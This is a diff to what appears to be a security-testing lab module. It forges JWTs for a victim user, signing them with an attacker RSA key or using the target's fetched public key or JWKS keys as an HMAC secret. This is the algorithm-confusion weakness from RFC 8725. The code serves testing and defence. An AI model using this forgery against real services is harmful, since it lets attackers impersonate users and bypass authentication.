@@ -7,12 +7,27 @@ Source: RFC 8725, section 2.1 Weak Signatures and Insufficient Signature Validat
 https://www.rfc-editor.org/rfc/rfc8725#section-2.1
 """
 
-from jose import jws
+from collections.abc import Iterator
+
+from jose import jwk, jws
 
 from attacks.lab.attack import attack
 from attacks.lab.forge import claims_about, new_rsa_key, signed
 from attacks.lab.outcome import Outcome, judge
 from attacks.lab.target import Target
+
+PAGES = {"its public key": "/auth/public-key", "its JWKS": "/.well-known/jwks.json"}
+
+
+def public_keys(target: Target) -> Iterator[tuple[str, bytes]]:
+    """Fetch what is public: a key as PEM, or a list of keys (RFC 7517, section 5)."""
+    for name, page in PAGES.items():
+        answer = target.http.get(page)
+        if answer.is_success and page.endswith(".json"):
+            keys = (key for key in answer.json()["keys"] if key["kty"] == "RSA")
+            yield from ((name, jwk.construct(key, "RS256").to_pem()) for key in keys)
+        elif answer.is_success:
+            yield name, answer.content
 
 
 @attack(door="token-unchecked")
@@ -22,7 +37,6 @@ def run(target: Target) -> Outcome:
     target.token_of(victim)
     claims = claims_about(victim.username)
     answers = {"own RSA key": target.read(jws.sign(claims, new_rsa_key(), algorithm="RS256"))}
-    public_key = target.http.get("/auth/public-key")
-    if public_key.is_success:
-        answers["public key as HMAC secret"] = target.read(signed(claims, public_key.content))
+    for name, key in public_keys(target):
+        answers[f"{name} as HMAC secret"] = target.read(signed(claims, key))
     return judge(answers)
